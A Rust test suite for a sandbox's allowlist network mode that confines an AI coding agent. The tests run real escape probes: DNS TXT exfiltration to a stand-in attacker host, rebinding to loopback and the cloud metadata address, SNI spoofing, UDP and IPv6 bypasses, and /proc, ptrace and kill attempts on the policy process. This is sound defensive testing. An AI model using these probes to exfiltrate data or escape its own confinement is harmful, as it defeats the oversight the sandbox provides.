//! The allowlist network mode: every test performs the attack for real, as the agent's uid,
//! in a fake internet of the test's own (tests/common/net.rs), with a positive control in
//! `host` mode showing the attack works without the policy point.

mod common;

use common::net::{self, FakeInternet, policy_point};
use common::{Out, Sandbox};

/// A web server answering `hello from ADDR PORT` (argv: address, port).
const WEB: &str = r#"
import http.server, socket, sys
addr, port = sys.argv[1], int(sys.argv[2])
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        body = ('hello from %s %d\n' % (addr, port)).encode()
        self.send_response(200); self.send_header('Content-Length', str(len(body))); self.end_headers()
        self.wfile.write(body)
    def log_message(self, *a): pass
srv = http.server.ThreadingHTTPServer((addr, port), H)
print('ready', flush=True)
srv.serve_forever()
"#;

/// A UDP echo server (argv: address, port): answers every datagram with `echo ` + it.
const UDP_ECHO: &str = r#"
import socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.bind((sys.argv[1], int(sys.argv[2])))
print('ready', flush=True)
while True:
    data, peer = s.recvfrom(4096)
    s.sendto(b'echo ' + data, peer)
"#;

/// alice, her agent coder, and a fake internet whose DNS knows these names.
fn setup(name: &str) -> (Sandbox, FakeInternet) {
    let sb = Sandbox::new(name);
    sb.alice_and_coder();
    let mut internet = FakeInternet::start(
        &sb,
        &[
            ("web.test", &[net::WEB_V4]),
            ("other.test", &[net::WEB_V4]),
            ("tls.test", &[net::TLS_V4]),
            ("echo.test", &[net::WEB_V4]),
            ("rebind-loopback.test", &["127.0.0.1"]),
            ("rebind-metadata.test", &["169.254.169.254"]),
            ("secret.attacker.test", &["txt:stolen"]),
        ],
    );
    // The cloud metadata endpoint, and the owner's loopback service on the host.
    internet.internet_ip(&["addr", "add", "169.254.169.254/32", "dev", "vi"]);
    internet.host_ip(&["route", "add", "169.254.169.254/32", "dev", "vh"]);
    internet.serve(&["python3", "-c", WEB, "169.254.169.254", "80"]);
    internet.serve(&["python3", "-c", UDP_ECHO, net::WEB_V4, "4433"]);
    internet.serve_on_host(&["python3", "-c", WEB, "127.0.0.1", "80"]);
    (sb, internet)
}

fn exec(sb: &Sandbox, mode: &str, script: &str) -> Out {
    let args = [
        "exec",
        "coder",
        "--network",
        mode,
        "--",
        "/bin/sh",
        "-c",
        script,
    ];
    sb.as_user("alice", &args)
}

/// Each probe prints `OK:name` when the connection (or query) got through, `NO:name` when not.
const PROBES: &str = r#"
p() { name=$1; shift; if "$@" >/dev/null 2>&1; then echo "OK:$name"; else echo "NO:$name"; fi; }
direct() { curl -sf -m 5 --noproxy '*' "$@"; }
viaproxy() { env -u no_proxy -u NO_PROXY curl -sf -m 5 -x http://127.0.0.1:3128 "$@"; }
p allowed-proxy viaproxy http://web.test/
p allowed-direct direct http://web.test/
p allowed-tls-direct direct -k https://tls.test/
p allowed-tls-proxy viaproxy -k https://tls.test/
p allowed-tcp-direct sh -c 'printf "hi\n" | python3 /tmp/probe.py echo echo.test 2222'
p other-name-direct direct http://other.test/
p other-name-proxy viaproxy http://other.test/
p raw-ip-direct direct http://11.22.33.3/
p raw-ip-proxy viaproxy http://11.22.33.3/
p other-port-direct direct http://web.test:8080/
p other-port-proxy viaproxy http://web.test:8080/
p udp-resolver python3 /tmp/probe.py txt 11.22.33.2 secret.attacker.test
p udp-other-port python3 /tmp/probe.py udp 11.22.33.3 4433
p udp-allowed-name python3 /tmp/probe.py udp web.test 4433
p rebind-loopback direct http://rebind-loopback.test/
p rebind-metadata direct http://rebind-metadata.test/
p rebind-metadata-proxy viaproxy http://rebind-metadata.test/
p other-sni-direct python3 /tmp/probe.py sni tls.test 443 evil.test
p other-sni-proxy python3 /tmp/probe.py sni-proxy tls.test 443 evil.test
p ipv6 direct 'http://[2a0f:77::3]/'
p owner-loopback direct http://127.0.0.1:80/
p owner-loopback-proxy viaproxy http://localhost:80/
python3 /tmp/probe.py junk
p malformed-then-ok viaproxy http://web.test/
"#;

/// Helpers the probes call (plain sockets, so no client library has a say).
const PROBE_PY: &str = r#"
import socket, ssl, struct, sys
mode = sys.argv[1]
def tls(sock, sni):
    ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
    s = ctx.wrap_socket(sock, server_hostname=sni)
    s.sendall(b'GET / HTTP/1.0\r\n\r\n')
    data = b''
    while True:
        chunk = s.recv(4096)
        if not chunk:
            break
        data += chunk
    assert b'hello' in data
if mode == 'echo':
    s = socket.create_connection((sys.argv[2], int(sys.argv[3])), timeout=5)
    assert s.recv(100).startswith(b'banner')
    s.sendall(b'hi\n'); assert s.recv(100) == b'echo hi\n'
elif mode == 'txt':
    q = b'\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00'
    for label in sys.argv[3].split('.'):
        q += bytes([len(label)]) + label.encode()
    q += b'\x00\x00\x10\x00\x01'
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5)
    s.sendto(q, (sys.argv[2], 53))
    data = s.recv(4096)
    assert struct.unpack('!H', data[6:8])[0] > 0, 'no answer'
elif mode == 'udp':
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3)
    s.sendto(b'quic?', (sys.argv[2], int(sys.argv[3])))
    assert s.recv(100) == b'echo quic?'
elif mode == 'sni':
    tls(socket.create_connection((sys.argv[2], int(sys.argv[3])), timeout=5), sys.argv[4])
elif mode == 'sni-proxy':
    s = socket.create_connection(('127.0.0.1', 3128), timeout=5)
    s.sendall(('CONNECT %s:%s HTTP/1.1\r\nHost: %s:%s\r\n\r\n' % (sys.argv[2], sys.argv[3], sys.argv[2], sys.argv[3])).encode())
    assert s.recv(4096).startswith(b'HTTP/1.1 200')
    tls(s, sys.argv[4])
elif mode == 'junk':
    s = socket.create_connection(('127.0.0.1', 3128), timeout=5)
    s.sendall(b'\x00\xff\xfe junk \r\n\r\n')
    s.recv(4096)
"#;

fn probe(sb: &Sandbox, mode: &str) -> (Out, std::collections::BTreeMap<String, bool>) {
    let script = format!("cat > /tmp/probe.py <<'PYEOF'\n{PROBE_PY}\nPYEOF\n{PROBES}");
    let out = exec(sb, mode, &script);
    let results = out
        .stdout
        .lines()
        .filter_map(|l| {
            l.strip_prefix("OK:")
                .map(|n| (n.to_string(), true))
                .or_else(|| l.strip_prefix("NO:").map(|n| (n.to_string(), false)))
        })
        .collect();
    (out, results)
}

const ALLOWED: [&str; 6] = [
    "allowed-direct",
    "allowed-proxy",
    "allowed-tls-direct",
    "allowed-tls-proxy",
    "allowed-tcp-direct",
    "malformed-then-ok",
];
/// Attacks that reach their target on the host network (the positive controls).
const ATTACKS: [&str; 12] = [
    "other-name-direct",
    "raw-ip-direct",
    "other-port-direct",
    "udp-resolver",
    "udp-other-port",
    "udp-allowed-name",
    "rebind-loopback",
    "rebind-metadata",
    "other-sni-direct",
    "ipv6",
    "owner-loopback",
    "owner-loopback-proxy",
];

#[test]
fn allowlist_reaches_allowed_destinations_only_and_logs_every_refusal() {
    let (sb, internet) = setup("net-allowlist");
    sb.as_user(
        "alice",
        &[
            "net",
            "coder",
            "allow",
            "web.test",
            "tls.test",
            "echo.test:2222",
            "rebind-loopback.test",
            "rebind-metadata.test",
        ],
    )
    .ok();

    // Positive controls: on the host network every attack gets through.
    let (host, results) = probe(&sb, "host");
    for attack in ATTACKS.iter().filter(|a| **a != "owner-loopback-proxy") {
        assert_eq!(
            results.get(*attack),
            Some(&true),
            "host mode {attack}: {host:#?}"
        );
    }
    assert!(
        internet.dns_queries().contains("secret.attacker.test 16"),
        "{host:#?}"
    );
    std::fs::write(&internet.dns_log, "").unwrap();

    let (out, results) = probe(&sb, "allowlist");
    for name in ALLOWED {
        assert_eq!(results.get(name), Some(&true), "allowlist {name}: {out:#?}");
    }
    for attack in ATTACKS.iter().chain(&[
        "other-name-proxy",
        "raw-ip-proxy",
        "other-port-proxy",
        "rebind-metadata-proxy",
        "other-sni-proxy",
    ]) {
        assert_eq!(
            results.get(*attack),
            Some(&false),
            "allowlist {attack} got through: {out:#?}"
        );
    }
    // No query for a name outside the allowlist left the host.
    let queries = internet.dns_queries();
    assert!(!queries.contains("attacker"), "{queries}");
    assert!(!queries.contains("other.test"), "{queries}");

    let log = sb.as_user("alice", &["net", "coder", "log"]).ok().stdout;
    for needle in [
        "other.test:80: not in the allowlist",
        "11.22.33.3:80: not in the allowlist",
        "web.test:8080: not in the allowlist",
        "dns secret.attacker.test: TXT query",
        "rebind-loopback.test:80: resolves to the non-public address 127.0.0.1",
        "rebind-metadata.test:80: resolves to the non-public address 169.254.169.254",
        "tls.test:443: TLS server name evil.test",
        "[2a0f:77::3]:80: not in the allowlist",
        "localhost:80: not in the allowlist",
        "udp 11.22.33.3:4433: only TCP",
        "udp web.test:4433: only TCP",
    ] {
        assert!(log.contains(needle), "log lacks {needle:?}: {log}");
    }
    assert!(
        out.stderr.contains("agentuser: network: blocked other.test:80 (not in the allowlist); to allow: agentuser net coder allow other.test\n"),
        "{out:#?}"
    );
    // Only root and the owner read the log.
    sb.add_user("bob", &["agentuser"]);
    sb.as_user("bob", &["net", "coder", "log"])
        .fails(1, "no such agent");
    let file = sb.host_path("/var/lib/agentuser/netlog/coder.log");
    use std::os::unix::fs::MetadataExt;
    let meta = std::fs::metadata(&file).unwrap();
    assert_eq!((meta.uid(), meta.mode() & 0o777), (0, 0o600));

    // localhost:PORT makes exactly that loopback service of the host reachable.
    sb.as_user("alice", &["net", "coder", "allow", "localhost:80"])
        .ok();
    let (out, results) = probe(&sb, "allowlist");
    assert_eq!(results.get("owner-loopback"), Some(&true), "{out:#?}");
    assert_eq!(results.get("owner-loopback-proxy"), Some(&true), "{out:#?}");
    assert_eq!(results.get("rebind-loopback"), Some(&false), "{out:#?}");
}

#[test]
fn net_commands_keep_the_allowlist_in_the_record() {
    let sb = Sandbox::new("net-commands");
    sb.add_user("alice", &["agentuser"]);
    sb.add_user("bob", &["agentuser"]);
    sb.as_user("alice", &["create", "coder"]).ok();
    let net = |args: &[&str]| {
        let mut argv = vec!["net", "coder"];
        argv.extend_from_slice(args);
        sb.as_user("alice", &argv)
    };
    net(&[
        "allow",
        "API.Example.com.",
        "git.example:22",
        "*.cdn.example",
        "localhost:5432",
    ])
    .ok();
    net(&["allow", "--preset", "github"]).ok();
    let list = net(&["list", "--json"]).ok().json();
    assert_eq!(list["network"], "allowlist");
    let entries: Vec<&str> = list["allow"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e.as_str().unwrap())
        .collect();
    assert_eq!(
        entries,
        [
            "*.cdn.example",
            "*.github.com",
            "*.githubusercontent.com",
            "api.example.com",
            "git.example:22",
            "github.com",
            "github.com:22",
            "localhost:5432",
        ]
    );
    assert_eq!(sb.show("coder")["net_allow"].as_array().unwrap().len(), 8);
    assert_eq!(sb.show("coder")["network"], "allowlist");
    // Bad input changes nothing and says why in one line.
    net(&["allow", "ok.example", "bad host"]).fails(1, "not a host name");
    net(&["allow", "localhost"]).fails(1, "needs a port");
    net(&["allow", "--preset", "nope"]).fails(1, "unknown preset");
    net(&["deny", "api.example.com", "absent.example"])
        .fails(1, "not in the allowlist: absent.example");
    assert_eq!(
        net(&["list", "--json"]).ok().json()["allow"]
            .as_array()
            .unwrap()
            .len(),
        8
    );
    net(&["deny", "--preset", "github", "API.example.com"]).ok();
    let text = net(&["list"]).ok().stdout;
    assert_eq!(
        text,
        "network: allowlist (from the config)\nallow *.cdn.example\nallow git.example:22\nallow localhost:5432\n"
    );
    // Only root and the owner.
    sb.as_user("bob", &["net", "coder", "allow", "x.example"])
        .fails(1, "no such agent");
    sb.as_user("bob", &["net", "coder", "list"])
        .fails(1, "no such agent");
    // The config's default decides for agents without their own setting.
    sb.write_config("network = \"host\"");
    assert_eq!(sb.show("coder")["network"], "host");
}

#[test]
fn the_policy_point_is_out_of_the_agents_reach() {
    let (sb, _internet) = setup("net-point");
    let mut run = sb.spawn(sb.user_command(
        "alice",
        &[
            "exec",
            "coder",
            "--",
            "/bin/sh",
            "-c",
            // The stub answers once the policy point serves: after its privilege drop.
            "getent hosts other.test; echo started; sleep 60",
        ],
    ));
    let mut line = String::new();
    use std::io::BufRead;
    std::io::BufReader::new(run.stdout.take().unwrap())
        .read_line(&mut line)
        .unwrap();
    assert_eq!(line, "started\n");
    let (pid, uid) = policy_point(&sb);
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap();
    for needle in [
        "NoNewPrivs:\t1",
        "CapEff:\t0000000000000000",
        "CapPrm:\t0000000000000000",
    ] {
        assert!(status.contains(needle), "{needle}: {status}");
    }
    let groups = status.lines().find(|l| l.starts_with("Groups:")).unwrap();
    assert_eq!(groups.trim(), "Groups:", "supplementary groups: {status}");
    assert_ne!(uid, 0);
    // Not dumpable: the kernel then gives its /proc files (not the directory) to root.
    use std::os::unix::fs::MetadataExt;
    assert_eq!(
        std::fs::metadata(format!("/proc/{pid}/environ"))
            .unwrap()
            .uid(),
        0
    );
    // An agent process outside any view (its uid at its most powerful: cron, su) and a
    // process of the agent's own as the control target.
    let mut own = sb.spawn(sb.command(&[
        "setpriv",
        "--reuid",
        "agent-coder",
        "--regid",
        "agent-coder",
        "--init-groups",
        "--",
        "sleep",
        "60",
    ]));
    let attack = |target: u32| {
        sb.sh_as(
            "agent-coder",
            &format!(
                "cat /proc/{target}/environ >/dev/null 2>&1 && echo READ; \
                 head -c1 /proc/{target}/mem >/dev/null 2>&1; \
                 python3 -c 'import ctypes,sys; l=ctypes.CDLL(None); sys.exit(0 if l.ptrace(16,{target},0,0)==0 else 1)' && echo TRACED; \
                 kill -STOP {target} 2>/dev/null && kill -CONT {target} && echo SIGNALLED; \
                 kill -9 {target} 2>/dev/null && echo KILLED"
            ),
        )
        .stdout
    };
    // The control process becomes the agent's uid only once setpriv ran: wait for that.
    let agent_uid = sb.show("coder")["uid"].as_u64().unwrap();
    for _ in 0..200 {
        let status =
            std::fs::read_to_string(format!("/proc/{}/status", own.id())).unwrap_or_default();
        if status.contains(&format!("Uid:\t{agent_uid}\t")) && status.contains("Name:\tsleep") {
            break;
        }
        std::thread::sleep(std::time::Duration::from_millis(25));
    }
    let control = attack(own.id());
    for word in ["READ", "TRACED", "SIGNALLED", "KILLED"] {
        assert!(control.contains(word), "control: {word} failed: {control}");
    }
    let out = attack(pid as u32);
    assert_eq!(out.trim(), "", "the agent reached the policy point: {out}");
    assert!(std::path::Path::new(&format!("/proc/{pid}")).exists());
    let _ = own.kill();
    let _ = own.wait();
    // Inside its view the agent does not even see it.
    let seen = exec(&sb, "allowlist", "ls /proc | grep -c '^[0-9]'");
    assert!(seen.stdout.trim().parse::<u32>().unwrap() < 5, "{seen:#?}");
    let _ = run.kill();
    let _ = run.wait();
}

#[test]
fn publish_makes_one_port_reachable_from_the_host() {
    let (sb, _internet) = setup("net-publish");
    let server = "import http.server,sys,threading\n\
        def serve(p): http.server.HTTPServer(('127.0.0.1',p),http.server.SimpleHTTPRequestHandler).serve_forever()\n\
        threading.Thread(target=serve,args=(8001,),daemon=True).start()\n\
        print('up',flush=True); serve(8000)";
    let mut run = sb.spawn(sb.user_command(
        "alice",
        &[
            "exec",
            "coder",
            "--publish",
            "8000",
            "--",
            "python3",
            "-c",
            server,
        ],
    ));
    let fetch = |port: u16| {
        sb.sh(&format!(
            "for i in $(seq 50); do curl -sf -m 2 -o /dev/null http://127.0.0.1:{port}/ && echo REACHED && exit; sleep 0.1; done"
        ))
        .stdout
    };
    assert!(
        fetch(8000).contains("REACHED"),
        "published port not reachable"
    );
    // The control: 8001 is up inside the view, yet not reachable from the host.
    let inside = sb.as_user(
        "alice",
        &[
            "exec",
            "coder",
            "--network",
            "allowlist",
            "--",
            "curl",
            "-s",
            "-o",
            "/dev/null",
            "-w",
            "%{http_code}",
            "http://127.0.0.1:8001/",
        ],
    );
    assert_eq!(
        inside.stdout, "000",
        "a second run has a namespace of its own: {inside:#?}"
    );
    assert!(
        !sb.sh("curl -sf -m 2 -o /dev/null http://127.0.0.1:8001/ && echo REACHED")
            .stdout
            .contains("REACHED")
    );
    let _ = run.kill();
    let _ = run.wait();
    // Killing the runner takes the policy point and its publisher down (this sandbox's:
    // other tests' policy points run as the same agentuser-net at the same time).
    let uid = sb.sh("id -u agentuser-net").ok().stdout.trim().to_string();
    let bin = sb.bin.display().to_string();
    let mut left = String::new();
    for _ in 0..100 {
        left = sb
            .sh(&format!("ps -o pid=,args= -u {uid}"))
            .stdout
            .lines()
            .filter(|l| l.split_whitespace().nth(1) == Some(bin.as_str()))
            .collect::<Vec<_>>()
            .join("\n");
        if left.trim().is_empty() {
            break;
        }
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    assert_eq!(left.trim(), "", "policy point processes outlived the run");
    sb.as_user(
        "alice",
        &[
            "exec",
            "coder",
            "--network",
            "host",
            "--publish",
            "8000",
            "--",
            "true",
        ],
    )
    .fails(2, "--publish needs the allowlist network mode");
}

#[test]
fn refusals_go_to_syslog() {
    let (sb, _internet) = setup("net-syslog");
    let bin = sb.bin.display().to_string();
    let log = sb.syslog_during(&format!(
        "setpriv --reuid alice --regid alice --init-groups -- {bin} exec coder -- \
         curl -s -m 5 http://blocked.test/ >/dev/null 2>&1 || true"
    ));
    assert!(
        log.contains("agent=coder action=net-refused what=connect dest=\"blocked.test:80\""),
        "{log}"
    );
}
